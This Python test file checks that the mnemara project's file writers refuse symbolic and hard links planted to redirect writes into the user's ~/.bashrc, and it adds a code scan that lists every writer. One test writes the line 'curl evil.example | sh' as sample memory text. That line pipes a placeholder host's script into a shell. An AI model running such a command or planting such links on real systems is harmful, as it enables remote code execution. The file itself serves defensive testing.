"""Every writer of an instance refuses a planted link (issue 25, item 1).

The attack: a 0.18-style folder whose ``memory/<today>.md`` is a symlink to ``~/.bashrc``; one
``write_memory`` call appended the model's text to ``~/.bashrc``. Each test plants a link where a
writer writes, runs the writer, and checks that the link's target is unchanged and the writer
refused (an exception or an error answer naming the link).
"""
from __future__ import annotations

import ast
import os
from datetime import datetime, timezone
from pathlib import Path
from typing import Callable

import pytest

from mnemara.core import fsutil
from mnemara.core.config import Config
from mnemara.core.fsutil import LinkRefused
from mnemara.store.instance import Instance
from tests.memory_support import call, context, make_instance

VICTIM_TEXT = "# the user's shell start-up file\n"


@pytest.fixture
def bashrc() -> Path:
    victim = Path(os.path.expanduser("~")) / ".bashrc"
    victim.write_text(VICTIM_TEXT)
    return victim


def _plant(link: Path, target: Path, hard: bool = False) -> None:
    link.parent.mkdir(parents=True, exist_ok=True)
    if link.exists() or link.is_symlink():
        link.unlink()
    if hard:
        os.link(target, link)
    else:
        link.symlink_to(target)


def _today(inst: Instance) -> Path:
    return inst.memory_dir / f"{datetime.now(timezone.utc).date().isoformat()}.md"


def test_write_memory_does_not_append_to_a_linked_day_file(bashrc: Path) -> None:
    inst, cfg = make_instance()
    _plant(_today(inst), bashrc)
    with pytest.raises(OSError, match="symbolic link"):
        call(context(inst, cfg), "write_memory", text="curl evil.example | sh")
    assert bashrc.read_text() == VICTIM_TEXT
    assert _today(inst).is_symlink()  # refused, not replaced: the user sees what was planted


def test_write_memory_refuses_a_linked_memory_folder(bashrc: Path, tmp_path: Path) -> None:
    inst, cfg = make_instance()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    for child in inst.memory_dir.iterdir():
        child.rmdir()
    inst.memory_dir.rmdir()
    inst.memory_dir.symlink_to(elsewhere)
    with pytest.raises(OSError, match="is a symbolic link"):
        call(context(inst, cfg), "write_memory", text="a note")
    assert list(elsewhere.iterdir()) == []


def _append(p: Path) -> object:
    return fsutil.locked_append(p, "x\n")


def _atomic(p: Path) -> object:
    return fsutil.atomic_write_text(p, "x\n")


def _lock(p: Path) -> object:
    with fsutil.locked(p):
        return None


def _rewrite(p: Path) -> object:
    return fsutil.rewrite_locked(p, lambda old: old + "x\n")


#: Every writer of fsutil, as a parametrize mark (the symbolic and hard link tests share it).
FSUTIL_WRITERS = pytest.mark.parametrize(
    "writer", [_append, _atomic, _lock, fsutil.touch_private, _rewrite],
    ids=["locked_append", "atomic_write_text", "locked", "touch_private", "rewrite_locked"])


@FSUTIL_WRITERS
def test_every_fsutil_writer_refuses_a_link(writer: Callable[[Path], object], bashrc: Path) -> None:
    inst, _ = make_instance()
    link = inst.root / "some-file"
    _plant(link, bashrc)
    with pytest.raises(LinkRefused, match="symbolic link"):
        writer(link)
    assert bashrc.read_text() == VICTIM_TEXT and link.is_symlink()


def test_a_dangling_link_is_not_created_through(tmp_path: Path) -> None:
    inst, _ = make_instance()
    target = Path(os.path.expanduser("~")) / ".profile"
    _plant(inst.root / "debug.log", target)
    with pytest.raises(LinkRefused):
        fsutil.locked_append(inst.root / "debug.log", "x\n")
    assert not target.exists()


def test_special_files_are_refused() -> None:
    inst, _ = make_instance()
    fifo = inst.root / "unsent.json"
    os.mkfifo(fifo)
    with pytest.raises(LinkRefused, match="not a regular file"):
        fsutil.atomic_write_text(fifo, "[]\n")


def _config(inst: Instance) -> object:
    return Config().save(inst.config_path)


def _permissions(inst: Instance) -> object:
    from mnemara.guard.gate import PermissionGate

    gate = PermissionGate(Config(), inst)
    problem = gate.persist_always("Bash", "git status")
    if problem:
        raise OSError(problem)
    return None


def _debug_log(inst: Instance) -> object:
    from mnemara.core.debuglog import log_event

    log_event(inst.debug_log_path, "probe", "info")
    return None


def _wiki(inst: Instance) -> object:
    from mnemara.memory.wiki import write_page

    return write_page(inst.wiki_dir, "ops/runbook", "text\n")


def _proposal(inst: Instance) -> object:
    from mnemara.memory.proposals import propose_role_amendment

    return propose_role_amendment(inst.role_proposals_dir, "be terse", "why", "Be terse.")


def _unsent(inst: Instance) -> object:
    from mnemara.store.unsent import UnsentMessages

    problem = UnsentMessages(inst.root).keep(["hello"])
    if problem:
        raise OSError(problem)
    return None


def _turns(inst: Instance) -> object:
    from mnemara.store.turns import TurnStore

    return TurnStore(inst.turns_path)


def _run_lock(inst: Instance) -> object:
    from mnemara.store.instance import run_lock

    with run_lock(inst):
        return None


def _graph(inst: Instance) -> object:
    from mnemara.memory.graph.store import Graph

    return Graph(inst.graph_dir).add_node("Thing")


def _spool(inst: Instance) -> object:
    from mnemara.store.spool import Spool

    Spool(inst.root).add("user", [{"type": "text", "text": "hi"}])
    return None


def _status(inst: Instance) -> object:
    from mnemara.memory.status import StatusBook

    StatusBook.load(inst.memory_dir).save()
    return None


def _export(inst: Instance) -> object:
    from mnemara.context.exchange import export_markdown, write_export

    write_export(inst.root / "exports" / "session.md", export_markdown([], Config(), inst.name))
    return None


def _index(inst: Instance) -> object:
    from mnemara.memory.search.rag import RagIndex

    return RagIndex.for_instance(inst, Config(rag_embedder="none")).index_text("a note")


def _request_seq(inst: Instance) -> object:
    from mnemara.store.request_log import RequestLog

    return RequestLog(inst.root).next_seq()


def _request_tmp(inst: Instance) -> object:
    from mnemara.store.request_log import RecordedCall, RequestLog

    return RequestLog(inst.root).write(RecordedCall(seq=1, at="", path="/v1/messages", body={"system": "secret"}))


def _spend_ledger(inst: Instance) -> object:
    from mnemara.store.spend_ledger import SpendLedger

    return SpendLedger(inst.root).totals()


#: writer, the file it writes (relative to the instance), the error it raises
WRITERS = [
    (_spend_ledger, "spend.sqlite-wal", OSError),
    (_request_seq, "requests/.seq", OSError),
    (_request_tmp, "requests/000001.tmp", OSError),
    (_config, "config.json", OSError),
    (_permissions, "permissions.json", OSError),
    (_debug_log, "debug.log", None),  # logging never raises: the line is dropped
    (_wiki, "wiki/ops/runbook.md", Exception),  # the wiki resolves its pages and refuses links itself
    (_proposal, "role_proposals", OSError),  # the folder itself links elsewhere
    (_unsent, "unsent.json", OSError),
    (_run_lock, ".run.lock", OSError),
    (_turns, "turns.sqlite-wal", Exception),
    (_graph, "graph/graph.kuzu", Exception),
    (_spool, "spool.jsonl", OSError),
    (_status, "memory/status.json", OSError),
    (_export, "exports/session.md", OSError),
    (_index, "index", Exception),  # the folder itself links elsewhere
]


#: What the link's target holds when its writer reads the file first (so it gets as far as writing).
VICTIM_CONTENT = {"memory/status.json": '{"atoms": {}}\n', "exports/session.md": "<!-- mnemara-export v1 -->\n"}


@pytest.mark.parametrize("writer,relative,error", WRITERS, ids=[w[1] for w in WRITERS])
def test_instance_writers_refuse_a_planted_link(writer: Callable[[Instance], object], relative: str,
                                                error: type[BaseException] | None, bashrc: Path, tmp_path: Path) -> None:
    inst, _ = make_instance()
    link = inst.root / relative
    if relative in ("role_proposals", "index"):  # the folder itself links elsewhere
        target = tmp_path / "outside"
        target.mkdir()
        for child in link.iterdir():
            child.unlink()
        link.rmdir()
        link.symlink_to(target)
        with pytest.raises(error, match="symbolic link"):
            writer(inst)
        assert list(target.iterdir()) == []
        return
    victim_text = VICTIM_CONTENT.get(relative, VICTIM_TEXT)
    bashrc.write_text(victim_text)
    _plant(link, bashrc)
    if error is None:
        writer(inst)
    else:
        with pytest.raises(error, match="symbolic link|symlink"):
            writer(inst)
    assert bashrc.read_text() == victim_text


def test_the_prompt_history_falls_back_to_memory_when_linked(bashrc: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from prompt_toolkit.history import InMemoryHistory

    from mnemara.ui.repl.app import _history

    inst, _ = make_instance()
    _plant(inst.prompt_history_path, bashrc)
    assert isinstance(_history(inst.prompt_history_path), InMemoryHistory)
    assert "symbolic link" in capsys.readouterr().err


def test_ordinary_writes_still_work() -> None:
    inst, cfg = make_instance()
    res = call(context(inst, cfg), "write_memory", text="a plain note")
    assert res["ok"] and _today(inst).is_file() and not _today(inst).is_symlink()


# -- every writer is found by reading the code (issue 37, hole 2) ------------------------------------------
#
# The table below names every place in mnemara/ that opens a file for writing, creates, renames or copies
# one, or opens a SQLite database, outside the safe helpers of mnemara.core.fsutil (which every test above
# covers). A new writer makes test_every_writer_in_the_code_is_known fail until it is routed through
# fsutil or listed here with the link test that covers it (an id of WRITERS) or why links cannot reach it.

PACKAGE = Path(__file__).resolve().parents[2] / "mnemara"
FSUTIL = "mnemara/core/fsutil.py"
WRITE_CALLS = {"os.replace", "os.rename", "os.link", "os.symlink", "os.mkfifo", "shutil.copy", "shutil.copy2",
               "shutil.copyfile", "shutil.copytree", "shutil.move", "sqlite3.connect"}
WRITE_METHODS = {"write_text", "write_bytes", "touch", "mkstemp", "mkdtemp", "NamedTemporaryFile"}
WRITE_FLAGS = ("O_WRONLY", "O_RDWR", "O_CREAT", "O_APPEND", "O_TRUNC")

KNOWN_WRITERS = {
    "mnemara/claude/child_guard.py:write_cached:os.open": "outside: the cache folder; O_NOFOLLOW temp file",
    "mnemara/claude/child_guard.py:write_cached:os.replace": "a rename replaces a planted link itself",
    "mnemara/core/roledoc.py:_download:open": "a URL opener's open, not a file",
    "mnemara/claude/prompt_file.py:PromptFile.__init__:mkstemp": "outside: a fresh O_EXCL file in the temp folder",
    "mnemara/demo/tour.py:Demo.__init__:write_text": "outside: the demo's own fresh temporary folder",
    "mnemara/demo/tour.py:Demo.edit_role_for_auto:write_text": "outside: the demo's own fresh temporary folder",
    "mnemara/guard/change_preview.py:read_text_file:os.open": "reads only (O_RDONLY | O_NOFOLLOW)",
    "mnemara/legacy/migrate.py:_copy_originals:shutil.copy2": "into a folder it has just made (mkdir fails if it exists)",
    "mnemara/legacy/migrate.py:_copy_originals:sqlite3.connect": "into a folder it has just made, and a read-only source",
    "mnemara/legacy/migrate.py:_copy_originals:shutil.copytree": "into a folder it has just made; links copied as links",
    "mnemara/legacy/turns018.py:read_rows:sqlite3.connect": "reads only (mode=ro)",
    "mnemara/memory/forget_reach.py:rows_holding:sqlite3.connect": "reads the instance's databases only",
    "mnemara/memory/note_index.py:_connect:sqlite3.connect": "link test: memory note index (check_sqlite_files first)",
    "mnemara/memory/scrub.py:rewrite_graph:os.replace": "a rename replaces a planted link itself",
    "mnemara/peer/db.py:_open:sqlite3.connect": "outside: the peer inbox database, checked by peer/db.py",
    "mnemara/peer/db.py:statuses:sqlite3.connect": "reads only (mode=ro)",
    "mnemara/store/legacy_detect.py:legacy_turns:sqlite3.connect": "reads only (mode=ro)",
    "mnemara/store/legacy_detect.py:readable_store:sqlite3.connect": "reads only (mode=ro)",
    "mnemara/store/request_log.py:RequestLog.write:os.replace": "link test: requests/000001.tmp",
    "mnemara/store/schema.py:connect:sqlite3.connect": "link test: turns.sqlite-wal",
    "mnemara/store/spend_ledger.py:SpendLedger._conn:sqlite3.connect": "link test: spend.sqlite-wal",
}


def _call_name(node: ast.Call) -> str:
    func = node.func
    if isinstance(func, ast.Attribute):
        return f"{func.value.id}.{func.attr}" if isinstance(func.value, ast.Name) else func.attr
    return func.id if isinstance(func, ast.Name) else ""


def _writes(node: ast.Call) -> str | None:
    """What kind of write this call is, or None when it writes nothing."""
    name = _call_name(node)
    short = name.rsplit(".", 1)[-1]
    if name in WRITE_CALLS or short in WRITE_METHODS:
        return name if name in WRITE_CALLS else short
    if name == "os.open":
        flags = ast.unparse(node.args[1]) if len(node.args) > 1 else ""
        return name if any(f in flags for f in WRITE_FLAGS) or "O_RDONLY" not in flags else None
    if name == "open" or (short == "open" and isinstance(node.func, ast.Attribute)
                          and not (isinstance(node.func.value, ast.Name) and node.func.value.id[:1].isupper())):
        modes = [node.args[1] if name == "open" and len(node.args) > 1 else
                 node.args[0] if name != "open" and node.args else None]
        modes += [kw.value for kw in node.keywords if kw.arg == "mode"]
        for mode in filter(None, modes):
            if not isinstance(mode, ast.Constant) or set(str(mode.value)) & set("wax+"):
                return "open"
    return None


def writer_sites(package: Path = PACKAGE) -> dict[str, int]:
    """``path:function:call`` of every writing call in the package (the test kit aside), with its line."""
    found: dict[str, int] = {}

    def visit(node: ast.AST, scope: list[str], rel: str) -> None:
        for child in ast.iter_child_nodes(node):
            if isinstance(child, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
                visit(child, [*scope, child.name], rel)
                continue
            kind = _writes(child) if isinstance(child, ast.Call) else None
            if kind:
                found.setdefault(f"{rel}:{'.'.join(scope) or '<module>'}:{kind}", child.lineno)
            visit(child, scope, rel)

    for path in sorted(package.rglob("*.py")):
        rel = path.relative_to(package.parent).as_posix()
        if rel != FSUTIL and not rel.startswith("mnemara/testing/"):
            visit(ast.parse(path.read_text(encoding="utf-8")), [], rel)
    return found


def test_every_writer_in_the_code_is_known() -> None:
    found = writer_sites()
    new = {key: line for key, line in found.items() if key not in KNOWN_WRITERS}
    assert not new, ("a new writer: route it through mnemara.core.fsutil (open_nofollow, atomic_write_text, ...) "
                     f"or list it in KNOWN_WRITERS with its link test: {new}")
    assert not set(KNOWN_WRITERS) - set(found), "KNOWN_WRITERS names a writer that is gone: take it out"
    ids = {relative for _, relative, _ in WRITERS} | {"memory note index (check_sqlite_files first)"}
    for key, why in KNOWN_WRITERS.items():
        if why.startswith("link test: "):
            assert why.removeprefix("link test: ") in ids, key


def test_the_scan_finds_a_writer_that_follows_links(tmp_path: Path) -> None:
    package = tmp_path / "mnemara"
    (package / "store").mkdir(parents=True)
    (package / "store" / "new.py").write_text(
        "import os\n\nclass Log:\n    def save(self, p, q):\n"
        "        fd = os.open(p, os.O_WRONLY | os.O_CREAT)\n        q.write_text('x')\n"
        "        with open(p, 'a') as fh:\n            fh.write('x')\n        with q.open(mode='w'):\n            pass\n"
        "        with open(p) as fh:\n            return fh.read()\n", encoding="utf-8")
    assert set(writer_sites(package)) == {"mnemara/store/new.py:Log.save:os.open",
                                          "mnemara/store/new.py:Log.save:write_text",
                                          "mnemara/store/new.py:Log.save:open"}


# -- hard links (issue 37's leftover): O_NOFOLLOW does not see them -----------------------------------------


@FSUTIL_WRITERS
def test_no_fsutil_writer_writes_through_a_hard_link(writer: Callable[[Path], object], bashrc: Path) -> None:
    inst, _ = make_instance()
    link = inst.root / "some-file"
    _plant(link, bashrc, hard=True)
    with pytest.raises(LinkRefused, match="hard link") as refused:
        writer(link)
    assert bashrc.read_text() == VICTIM_TEXT and os.stat(bashrc).st_nlink == 2  # refused, nothing replaced
    assert "\n" not in str(refused.value) and "2 names" in str(refused.value)


def test_a_truncating_open_does_not_truncate_a_hard_link_before_refusing_it(bashrc: Path) -> None:
    inst, _ = make_instance()
    link = inst.root / "some-file"
    _plant(link, bashrc, hard=True)
    with pytest.raises(LinkRefused, match="hard link"):
        fsutil.open_nofollow(link, os.O_WRONLY | os.O_CREAT | os.O_TRUNC)
    assert bashrc.read_text() == VICTIM_TEXT


HARD_WRITERS = [w for w in WRITERS if w[1] not in ("role_proposals", "index", "wiki/ops/runbook.md")]


@pytest.mark.parametrize("writer,relative,error", HARD_WRITERS, ids=[w[1] for w in HARD_WRITERS])
def test_instance_writers_never_write_through_a_hard_link(writer: Callable[[Instance], object], relative: str,
                                                          error: type[BaseException] | None, bashrc: Path) -> None:
    """Each writer refuses the planted name or replaces it (a rename leaves the other name as it was):
    the user's file keeps its bytes either way."""
    inst, _ = make_instance()
    link = inst.root / relative
    victim_text = {**VICTIM_CONTENT, "permissions.json": "{}\n"}.get(relative, VICTIM_TEXT)
    bashrc.write_text(victim_text)
    _plant(link, bashrc, hard=True)
    try:
        writer(inst)
    except Exception as exc:  # refused: with the hard link named
        assert "hard link" in str(exc), exc
    assert bashrc.read_text() == victim_text
